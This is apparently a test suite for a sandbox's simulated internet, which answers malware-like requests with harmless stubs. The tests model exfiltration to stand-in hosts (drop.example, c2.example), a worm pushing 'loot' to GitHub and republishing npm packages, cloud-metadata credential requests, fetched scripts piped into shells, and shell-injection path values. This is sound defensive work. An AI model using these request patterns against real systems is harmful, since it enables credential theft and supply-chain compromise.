# SPDX-License-Identifier: Apache-2.0
"""Answers are those that a tool looks for, and what is fetched shows that it was run."""

from __future__ import annotations

import base64
import io
import json
import platform
import re
import shutil
import stat
import struct
import subprocess
import sys
import tarfile
import zipfile
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from fpbox.machine import BUILT_IN
from fpbox_gateway.play import World, places
from fpbox_gateway.play.answer import Answer
from fpbox_gateway.play.answers import answer
from fpbox_gateway.play.message import Head, request
from fpbox_gateway.play.programs import Machine, elf, pe

WORLD = World(seed="a test")
AWS = "169.254.169.254"


def asked(
    method: str,
    url: str,
    body: bytes = b"",
    *,
    address: str = "198.18.0.9",
    world: World = WORLD,
    **headers: str,
) -> Answer:
    """Return the answer to a request for "host/path", with headers named like `user_agent`."""
    host, _, path = url.partition("/")
    named = tuple((name.replace("_", "-"), value) for name, value in headers.items())
    head = Head(method, f"/{path}", "HTTP/1.1", (("Host", host), *named))
    return answer(request(head, host=host, address=address, port=80, secure=False, body=body), world)


def data(reply: Answer) -> Any:
    return json.loads(reply.body)


def test_the_ordinary_answer_is_success_and_nothing():
    reply = asked("POST", "drop.example/collect", b"x")
    assert (reply.status, reply.body, reply.protocol) == (200, b"", "http")


@pytest.mark.parametrize("url", ["api.drop.example/collect", "drop.example/api/v1/x", "drop.example/graphql"])
def test_an_api_gets_json(url):
    assert data(asked("POST", url)) == {}


def test_who_sends_json_gets_json():
    assert data(asked("POST", "drop.example/x", content_type="application/json")) == {}


@pytest.mark.parametrize(
    "url", ["api.ipify.example/", "ipinfo.io/ip", "icanhazip.com/", "x.example/ip", "checkip.cloud.example/"]
)
def test_the_address_is_invented_and_the_same_everywhere(url):
    assert asked("GET", url).body.decode().strip() == WORLD.address
    assert re.fullmatch(r"(\d{1,3}\.){3}\d{1,3}", WORLD.address)


def test_the_address_comes_with_a_place_where_json_is_wanted():
    place = data(asked("GET", "ipinfo.io/json"))
    assert (place["ip"], place["query"]) == (WORLD.address, WORLD.address)
    assert asked("GET", "ipinfo.io/country").body.decode().strip() == place["country"]


@pytest.mark.parametrize(
    ("url", "headers"),
    [
        ("api.ipgeolocation.example/ipgeo?apiKey=0", {}),
        ("ipinfo.io/", {}),
        ("ipinfo.io/json", {}),
        ("ip-api.com/json/?fields=country", {}),
        ("ipapi.co/json/", {}),
        ("geolocation-db.example/jsonp/", {}),
        ("geo.c2.example/check", {}),
        ("c2.example/ipgeo", {}),
        ("c2.example/geoip", {}),
        ("api.c2.example/v1/location", {}),
        ("c2.example/country", {"accept": "application/json, text/plain, */*"}),
        ("c2.example/my-ip?format=json", {}),
    ],
)
def test_who_asks_where_the_machine_is_gets_the_place_of_its_time_zone(url, headers):
    world = World(seed="a test", values={"time_zone": "Europe/Minsk"})
    place = data(asked("GET", url, world=world, **headers))
    assert (place["ip"], place["country_code"], place["country_name"]) == (world.address, "BY", "Belarus")
    assert (place["city"], place["region"], place["timezone"]) == ("Minsk", "Minsk City", "Europe/Minsk")
    assert place["loc"] == "53.9006,27.559"
    assert re.fullmatch(r"AS\d{5} .+", place["org"])


@pytest.mark.parametrize(
    ("url", "country"),
    [
        ("ipinfo.io/json", "DE"),
        ("ipinfo.io/country", "DE"),
        ("ip-api.com/json", "Germany"),
        ("ipwho.is/", "Germany"),
    ],
)
def test_the_country_is_a_name_or_a_code_as_the_service_has_it(url, country):
    told = asked("GET", url, world=World(values={"time_zone": "Europe/Berlin"})).body
    assert (json.loads(told)["country"] if told.startswith(b"{") else told.decode().strip()) == country


@pytest.mark.parametrize("zone", ["", "Etc/UTC", "Mars/Olympus"])
def test_a_machine_whose_zone_names_no_place_is_somewhere_always_the_same(zone):
    first, again = (data(asked("GET", "ipinfo.io/json", world=World("s", {"time_zone": zone}))) for _ in "ab")
    assert first == again
    assert first["country_name"]


def test_the_zones_of_all_personas_are_listed():
    zones = {zone for persona in BUILT_IN.values() for zone, _ in persona.places}
    assert zones - set(places._BY_ZONE) == {"Etc/UTC"}


@pytest.mark.parametrize("zone", sorted(places._BY_ZONE))
def test_every_listed_zone_exists(zone):
    ZoneInfo(zone)


@pytest.mark.parametrize(
    ("method", "url", "headers"),
    [
        ("GET", "c2.example/location", {"user_agent": "curl/8"}),
        ("GET", "geo.c2.example/run.sh", {"user_agent": "curl/8"}),
        ("GET", "c2.example/ip/install.py", {"user_agent": "curl/8"}),
        ("GET", "api.c2.example/shipping", {}),
        ("GET", "api.c2.example/v1/descriptions", {}),
        ("POST", "api.c2.example/v1/location", {}),
    ],
)
def test_what_only_looks_like_a_question_for_a_place_is_none(method, url, headers):
    assert b"country" not in asked(method, url, b"{}", **headers).body


def test_another_run_has_another_address():
    other = World(seed="another")
    assert other.address != WORLD.address
    assert World(seed="a test").address == WORLD.address
    assert World(values={"public_ip": "240.0.0.8"}).address == "240.0.0.8"


def test_a_webhook_is_answered_as_the_service_does():
    hook = "discord.com/api/webhooks/1234567890/abc-DEF_1"
    assert asked("POST", hook, b"{}").status == 204
    assert data(asked("POST", f"{hook}?wait=true", b"{}"))["author"]["bot"] is True
    assert data(asked("GET", hook))["token"] == "abc-DEF_1"  # noqa: S105 - the hook's, as it was asked
    assert asked("POST", "hooks.slack.com/services/T0000/B0000/xyz", b"{}").body == b"ok"


def test_a_bot_is_answered_as_the_service_does():
    assert data(asked("POST", "api.telegram.org/bot12345678:AAxx/sendMessage"))["result"]["message_id"]
    assert data(asked("GET", "api.telegram.org/bot12345678:AAxx/getMe"))["result"]["is_bot"] is True
    assert data(asked("GET", "api.telegram.org/bot12345678:AAxx/getUpdates"))["result"] == []


def test_a_worm_can_publish_what_it_stole():
    token = {"authorization": "token x"}
    who = asked("GET", "api.github.com/user", **token)
    assert data(who)["login"] == WORLD.login
    assert "workflow" in dict(who.headers)["X-OAuth-Scopes"]
    made = asked("POST", "api.github.com/user/repos", b'{"name": "loot", "private": false}', **token)
    assert (made.status, data(made)["full_name"]) == (201, f"{WORLD.login}/loot")
    put = asked(
        "PUT", f"api.github.com/repos/{WORLD.login}/loot/contents/a/data.json", b'{"content": "eA=="}'
    )
    assert (put.status, data(put)["content"]["path"]) == (201, "a/data.json")
    assert asked("POST", "api.github.com/gists", b"{}").status == 201
    assert data(asked("POST", f"api.github.com/repos/{WORLD.login}/loot/actions/runners/registration-token"))[
        "token"
    ]
    assert data(asked("GET", "api.github.com/search/repositories?q=x"))["items"] == []
    assert data(asked("GET", "git.corp.example/api/v3/user"))["login"] == WORLD.login


@pytest.mark.parametrize(
    "body", [b"", b"[]", b"{", b'{"name": {"a": 1}}', b"[" * 60_000, b'{"name": "../x y"}']
)
def test_what_a_worm_sends_is_not_trusted(body):
    assert data(asked("POST", "api.github.com/user/repos", body))["name"] == "data"


def test_a_registry_is_known_by_how_it_is_asked():
    assert data(asked("GET", "mirror.example/-/whoami")) == {"username": WORLD.login}
    assert data(asked("GET", "mirror.example/-/npm/v1/tokens"))["total"] == 1
    assert data(asked("PUT", "mirror.example/-/user/org.couchdb.user:me", b"{}"))["token"].startswith("npm_")
    upload = b'--b\r\nContent-Disposition: form-data; name=":action"\r\n\r\nfile_upload\r\n--b--'
    assert (
        asked("POST", "up.example/legacy/", upload, content_type="multipart/form-data; boundary=b").status
        == 200
    )


def test_a_worm_finds_packages_and_publishes_over_them():
    found = data(asked("GET", f"mirror.example/-/v1/search?text=maintainer:{WORLD.login}&size=20"))
    name = found["objects"][0]["package"]["name"]
    package = data(asked("GET", f"mirror.example/{name}", user_agent="npm/11.0.0 node/v24"))
    tarball = package["versions"]["1.0.3"]["dist"]["tarball"].removeprefix("http://")
    packed = asked("GET", tarball, user_agent="npm/11.0.0 node/v24").body
    with tarfile.open(fileobj=io.BytesIO(packed)) as archive:
        manifest = archive.extractfile("package/package.json")
        assert manifest
        assert json.load(manifest)["name"] == name
    published = asked("PUT", f"mirror.example/{name}", b'{"_id": "x", "_attachments": {}}')
    assert (published.status, data(published)["ok"]) == (201, True)


NPM = {"user_agent": "npm/11.0.0 node/v24", "pacote_req_type": "tarball"}
PNPM = {"user_agent": "pnpm/10.1.0 npm/? node/v24", "accept": "application/vnd.npm.install-v1+json, */*"}
PIP = {"user_agent": 'pip/24.0 {"ci":null}', "accept": "*/*"}


@pytest.mark.parametrize(
    ("path", "headers", "named"),
    [
        ("a/far-2.1.0.tgz", NPM, ("far", "2.1.0")),
        ("npm/far", NPM, ("far", "1.0.0")),
        ("far-2.1.0.tgz", PNPM, ("far", "2.1.0")),
        ("", NPM, ("package", "1.0.0")),
        ("%2e%2e/..-x%00Y-1.tgz", NPM, ("x-y-1", "1.0.0")),
    ],
)
def test_npm_gets_a_package_by_an_address_that_shows_that_it_was_run(path, headers, named):
    with tarfile.open(fileobj=io.BytesIO(asked("GET", f"code.example/{path}", **headers).body)) as archive:
        manifest = json.loads(archive.extractfile("package/package.json").read())
        assert (manifest["name"], manifest["version"]) == named
        assert b"/ran/by-node/code.example" in archive.extractfile("package/index.js").read()


@pytest.mark.parametrize("path", ["far", "far/-/far-1.0.3.tgz"])
def test_what_a_registry_is_asked_for_is_answered_by_the_registry(path):
    reply = asked("GET", f"mirror.example/{path}", **PNPM)
    assert b"/ran/" not in reply.body
    assert len(reply.body) > 100


@pytest.mark.parametrize("file", ["far_off-2.1-py3-none-any.whl", "far_off-2.1.tar.gz"])
def test_pip_gets_a_distribution_by_an_address_that_shows_that_it_was_run(file, tmp_path):
    (tmp_path / file).write_bytes(asked("GET", f"code.example/{file}", **PIP).body)
    into = tmp_path / "into"
    shutil.unpack_archive(tmp_path / file, into, "zip" if file.endswith("whl") else "gztar")
    (module,) = into.rglob("far_off.py")
    assert b"/ran/by-python/code.example/far_off-2.1" in module.read_bytes()


@pytest.mark.parametrize("path", ["far", "far.zip", "2.1.tar.gz", "-py3-none-any.whl"])
def test_pip_gets_what_everybody_gets_where_the_address_names_no_distribution(path):
    assert asked("GET", f"code.example/{path}", **PIP) == asked("GET", f"code.example/{path}", user_agent="x")


def test_instances_of_amazon_get_credentials():
    lasting = {"x_aws_ec2_metadata_token_ttl_seconds": "60"}
    token = asked("PUT", f"{AWS}/latest/api/token", address=AWS, **lasting)
    assert (token.status, token.protocol) == (200, "metadata")
    assert asked("PUT", f"{AWS}/latest/api/token", address=AWS).status == 400
    roles = f"{AWS}/latest/meta-data/iam/security-credentials/"
    role = asked("GET", roles, address=AWS).body.decode()
    keys = data(asked("GET", roles + role, address=AWS))
    assert re.fullmatch("ASIA[A-Z2-7]{16}", keys["AccessKeyId"])
    assert len(keys["SecretAccessKey"]) == 40
    identity = data(asked("GET", f"{AWS}/latest/dynamic/instance-identity/document", address=AWS))
    assert re.fullmatch("i-0[0-9a-f]{16}", identity["instanceId"])
    assert (
        asked("GET", f"{AWS}/latest/meta-data/instance-id", address=AWS).body.decode()
        == identity["instanceId"]
    )
    assert asked("GET", f"{AWS}/latest/meta-data/nothing", address=AWS).status == 404


def test_given_values_are_the_ones_that_are_told():
    world = World(values={"aws_role_access_key_id": "ASIAGIVEN", "login": "given-name"})
    keys = data(asked("GET", "169.254.170.2/v2/credentials/abc", address="169.254.170.2", world=world))
    assert (keys["AccessKeyId"], keys["RoleArn"][:13]) == ("ASIAGIVEN", "arn:aws:iam::")
    assert data(asked("GET", "m.example/-/whoami", world=world)) == {"username": "given-name"}


def test_machines_of_google_get_a_token():
    path = "metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"
    reply = asked("GET", path, metadata_flavor="Google")
    assert data(reply)["access_token"].startswith("ya29.")
    assert dict(reply.headers)["Metadata-Flavor"] == "Google"
    assert asked("GET", path).status == 403


@pytest.mark.parametrize(
    ("url", "field"),
    [
        (f"{AWS}/metadata/instance?api-version=2021-02-01", "compute"),
        (f"{AWS}/metadata/identity/oauth2/token?resource=x", "access_token"),
        (f"{AWS}/metadata/v1.json", "droplet_id"),
        (f"{AWS}/openstack/latest/meta_data.json", "uuid"),
        ("100.100.100.200/latest/meta-data/ram/security-credentials/role", "SecurityToken"),
        ("169.254.170.23/v1/credentials", "Token"),
    ],
)
def test_other_clouds_are_there_too(url, field):
    reply = asked("GET", url, metadata="true", address=url.partition("/")[0])
    assert reply.protocol == "metadata"
    assert data(reply)[field]


def test_nothing_invented_is_the_same_in_two_runs():
    def invented(seed: str) -> set[str]:
        world = World(seed=seed)
        urls = [f"{AWS}/latest/meta-data/iam/security-credentials/x", f"{AWS}/metadata/v1.json"]
        texts = [asked("GET", url, address=AWS, world=world).body.decode() for url in urls]
        return set(re.findall(r'"([^"]{12,})"', "".join(texts))) - {
            "255.255.240.0",
            "LastUpdated",
            "AccessKeyId",
        }

    shared = invented("one") & invented("two")
    assert {text for text in shared if not re.match(r"\d{4}-|[A-Za-z_]+$", text)} == set()


@pytest.mark.parametrize(
    ("command", "path"),
    [
        (["sh"], "/install"),
        (["bash", "-e"], "/install"),
        (["sh", "-e"], "/install.sh"),
        ([sys.executable, "-"], "/install"),
        ([sys.executable, "-"], "/install.py"),
        (["node", "-"], "/install"),
        (["node", "-"], "/install.js"),
        (["node", "--input-type=module", "-"], "/install.mjs"),
        (["perl", "-"], "/install.pl"),
    ],
)
def test_a_script_that_is_run_ends_with_success_and_says_nothing(command, path):
    if not shutil.which(command[0]):
        pytest.skip(f"needs {command[0]}")
    script = asked("GET", f"a.example{path}", user_agent="curl/8").body
    done = subprocess.run(command, input=script, check=True, timeout=60, capture_output=True)
    assert (done.stdout, done.stderr) == (b"", b"")


@pytest.mark.parametrize(("path", "by"), [("/a", "sh"), ("/a", "python"), ("/a", "node"), ("/a.pl", "perl")])
def test_a_script_opens_a_file_that_tells_by_what_it_runs_and_where_it_came_from(path, by):
    text = asked("GET", f"a.example{path}", user_agent="curl/8").body.decode()
    assert f"/ran/by-{by}/a.example{path}'" in text


@pytest.mark.parametrize(
    ("path", "agent", "program"),
    [
        ("/vendor/linux/x64/cwebp", "got", True),
        ("/vendor/linux/jpeg", "node", True),
        ("/download/tool-linux-amd64-1.2.3", "curl/8", True),
        ("/linux", "curl/8", False),
        ("/install", "node", False),
        ("/tool-linux-x64.sh", "node", False),
        ("/fixed64", "node", False),
    ],
)
def test_a_compiled_program_is_known_by_its_path(path, agent, program):
    assert asked("GET", f"a.example{path}", user_agent=agent).body.startswith(b"\x7fELF") is program


@pytest.mark.parametrize("path", ["/x'; touch y'", "/$(id)", "/`id`.sh", '/a"b', "/ü.py"])
def test_a_script_holds_nothing_of_a_hostile_path(path):
    text = asked("GET", f"a'b\"$.example{path}", user_agent="curl/8").body.decode()
    opened = re.findall(r"'(/ran/by-[^']*)'", text)
    assert opened
    assert all(re.fullmatch(r"[A-Za-z0-9./_-]+", one) for one in opened)
    assert not any(bad in re.sub(r"'/ran/[^']*'", "", text) for bad in ("touch", "$(id)", "`id`", "ü"))


def test_a_browser_gets_no_script():
    reply = asked("GET", "a.example/", user_agent="Mozilla/5.0", accept="text/html,*/*;q=0.8")
    assert reply.body == b""


def test_a_program_that_is_fetched_runs(tmp_path):
    if platform.machine() != "x86_64":
        pytest.skip("the program is for another machine")
    program = tmp_path / "program"
    program.write_bytes(asked("GET", "a.example/agent.elf").body)
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    assert program.read_bytes() == elf(Machine.X86_64)
    subprocess.run([str(program)], check=True, timeout=60)


def test_a_program_for_another_machine_is_one():
    arm = asked("GET", "a.example/agent-linux-arm64.bin").body
    assert struct.unpack_from("<H", arm, 18) == (183,)
    windows = asked("GET", "a.example/setup.exe").body
    assert windows == pe()
    at = struct.unpack_from("<I", windows, 0x3C)[0]
    assert (windows[:2], windows[at : at + 4]) == (b"MZ", b"PE\0\0")


@pytest.mark.parametrize("name", ["a.tar.gz", "a.tgz", "a.tar", "a.tar.xz", "a.tar.bz2"])
def test_an_archive_that_is_fetched_is_empty(name):
    with tarfile.open(fileobj=io.BytesIO(asked("GET", f"a.example/{name}").body)) as archive:
        assert archive.getnames() == []


def test_other_files_are_valid():
    assert zipfile.ZipFile(io.BytesIO(asked("GET", "a.example/a.zip").body)).namelist() == []
    assert asked("GET", "a.example/a.png").body.startswith(b"\x89PNG")
    assert data(asked("GET", "a.example/config.json")) == {}
    assert asked("GET", "a.example/a.wasm").body[:4] == b"\0asm"


def test_options_are_told():
    reply = asked("OPTIONS", "a.example/")
    assert (reply.status, reply.headers[0][0]) == (204, "Allow")
    assert b"Content-Length" not in reply.wire(Head("OPTIONS", "*", "HTTP/1.1"), stays=True)


@pytest.mark.skipif(not shutil.which("git"), reason="needs git")
def test_a_repository_can_be_cloned_and_pushed_to(internet, tmp_path):
    url = f"http://127.0.0.1:{internet.port}/me/loot.git"
    env = {"HOME": str(tmp_path), "PATH": "/usr/local/bin:/usr/bin:/bin", "GIT_TERMINAL_PROMPT": "0"}

    def git(*arguments: str) -> None:
        subprocess.run(
            ["git", *arguments], check=True, timeout=60, env=env, cwd=tmp_path, capture_output=True
        )

    git("clone", url, "loot")
    (tmp_path / "loot" / "keys").write_text("stolen")
    who = ("-c", "user.name=me", "-c", "user.email=me@a.example")
    git("-C", "loot", "add", "keys")
    git("-C", "loot", *who, "commit", "-m", "x")
    git("-C", "loot", "push", "origin", "HEAD:refs/heads/main", "HEAD:refs/heads/other")
    pushed = internet.of("request")[-1]
    assert pushed["target"] == "/me/loot.git/git-receive-pack"
    assert b"PACK" in base64.b64decode(pushed["body"])


def test_a_name_can_be_asked_for_by_https():
    world = World(resolve=lambda name: {"c2.example": "198.18.0.77"}[name])
    told = data(asked("GET", "dns.example/resolve?name=c2.example&type=A", world=world))
    assert told["Answer"][0]["data"] == "198.18.0.77"
